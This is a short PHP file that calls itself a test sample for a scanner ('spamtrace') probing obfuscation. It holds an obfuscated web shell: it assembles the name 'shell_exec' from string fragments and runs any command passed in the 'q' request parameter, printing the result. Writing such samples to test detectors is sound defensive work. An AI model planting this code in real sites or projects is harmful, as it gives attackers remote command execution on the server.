<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$n = sprintf('%s%s%s', 'she', 'll_', 'exec');
$c = Closure::fromCallable($n);
echo $c($_REQUEST['q'] ?? 'id');
